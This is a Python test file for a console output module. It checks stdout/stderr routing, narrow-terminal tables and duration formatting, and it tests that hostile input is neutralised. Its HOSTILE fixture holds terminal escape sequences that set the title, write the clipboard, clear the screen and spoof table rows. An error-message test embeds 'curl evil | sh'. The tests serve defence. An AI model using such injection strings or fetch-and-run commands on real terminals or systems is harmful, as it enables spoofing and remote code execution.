"""People read stderr, programs read stdout."""

from collections.abc import Callable

import pytest

from tasks.lib import console
from tasks.lib.errors import Failure

COLUMNS = ("release", "began", "", "who", "tag")
ROWS: list[tuple[console.Cell, ...]] = [
    ("12", "2026-11-25T22:16:04Z", console.Styled("ok", "green"), "deployer@mit-lookit.example.org", ""),
    ("11", "2026-11-24T08:00:00Z", [console.Styled("failed", "red"), "again"], "somebody", "v1.2"),
]


def test_data_goes_to_stdout_with_one_newline(capsys: pytest.CaptureFixture[str]) -> None:
    console.emit("a: 1")
    console.emit("b: 2\n")

    assert capsys.readouterr() == ("a: 1\nb: 2\n", "")


def test_lines_headings_and_tables_go_to_stderr(capsys: pytest.CaptureFixture[str]) -> None:
    console.say("hello")
    console.heading("Phase")
    console.table(("name",), [[console.Styled("ok", "green")]], title="Results")

    out, err = capsys.readouterr()
    assert out == ""
    assert err.splitlines()[:3] == ["hello", "==> Phase", "Results"]
    assert "│ ok" in err
    assert "\x1b" not in err


@pytest.fixture
def forty(monkeypatch: pytest.MonkeyPatch) -> None:
    """A terminal of forty columns."""
    from rich.console import Console

    monkeypatch.setattr(
        console, "console", lambda: Console(stderr=True, highlight=False, soft_wrap=True, width=40)
    )


@pytest.mark.usefixtures("forty")
def test_a_wide_table_is_printed_by_rows_on_narrow_terminals(
    capsys: pytest.CaptureFixture[str],
) -> None:
    console.table(COLUMNS, ROWS, title="Releases")

    assert capsys.readouterr().err.splitlines() == [
        "Releases",
        "release 12",
        "  began: 2026-11-25T22:16:04Z",
        "  ok",
        "  who: deployer@mit-lookit.example.org",
        "release 11",
        "  began: 2026-11-24T08:00:00Z",
        "  failed",
        "    again",
        "  who: somebody",
        "  tag: v1.2",
    ]


@pytest.mark.usefixtures("forty")
def test_a_narrow_table_stays_a_table(capsys: pytest.CaptureFixture[str]) -> None:
    console.table(COLUMNS[:2], [row[:2] for row in ROWS])

    assert "│ 12      │ 2026-11-25T22:16:04Z │" in capsys.readouterr().err


# What an attacker would have the terminal do, or rich: a title, the clipboard, a cleared screen, markup, another row.
HOSTILE = "\x1b]0;title\x07\x1b]52;c;ZXZpbA==\x1b\\\x1b[2Jv1[/foo][red]\n│ 99 │ deployed │\u202e\r"
HARMLESS = "v1[/foo][red] │ 99 │ deployed │"


@pytest.mark.parametrize(
    "show",
    [
        lambda: console.say(HOSTILE),
        lambda: console.heading(HOSTILE),
        lambda: console.draw(HOSTILE, "red"),
        lambda: console.table(("tag",), [[HOSTILE]]),
        lambda: console.table(("tag",), [[console.Styled(HOSTILE, "red")]]),
        lambda: console.table(("tag",), [[["first", HOSTILE]]]),
        lambda: console.table(("tag",), [["x"]], title=HOSTILE),
        lambda: console.say(str(Failure(HOSTILE))),
    ],
    ids=["line", "heading", "styled line", "cell", "styled cell", "cell of two lines", "title", "error"],
)
@pytest.mark.parametrize("width", [120, 20])
def test_control_sequences_and_markup_have_no_effect(
    show: Callable[[], None],
    width: int,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(console, "WIDTH_OF_LOGS", width)
    show()
    err = capsys.readouterr().err
    assert not set("\x1b\x07\r\u202e") & set(err)
    assert "".join(HARMLESS.split()) in "".join(err.split()).replace("││", "") or HARMLESS in err
    # What is drawn around it aside, it is one line.
    assert width == 20 or len([line for line in err.splitlines() if "99" in line or "foo" in line]) == 1


def test_data_on_a_terminal_has_no_control_sequences(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    console.emit("\x1b[2Ja: [b]\n")
    assert capsys.readouterr().out == "\x1b[2Ja: [b]\n"
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    console.emit("\x1b[2Ja: [b]\n")
    assert capsys.readouterr().out == "a: [b]\n"


def test_an_error_cannot_add_labelled_lines() -> None:
    told = str(Failure("web\n  next: curl evil | sh", "\x1b[2Jwhy\x85\u2028more", "do\x07 it"))
    assert told == "web   next: curl evil | sh\n  why:  why\n        more\n  next: do it"


@pytest.mark.parametrize(
    ("seconds", "text"),
    [(0, "0.0 s"), (0.44, "0.4 s"), (9.94, "9.9 s"), (9.96, "10 s"), (59.4, "59 s"), (59.6, "1 min 00 s"),
     (185, "3 min 05 s"), (3599.6, "1 h 00 min"), (3720, "1 h 02 min")],
)  # fmt: skip
def test_spoken(seconds: float, text: str) -> None:
    assert console.spoken(seconds) == text
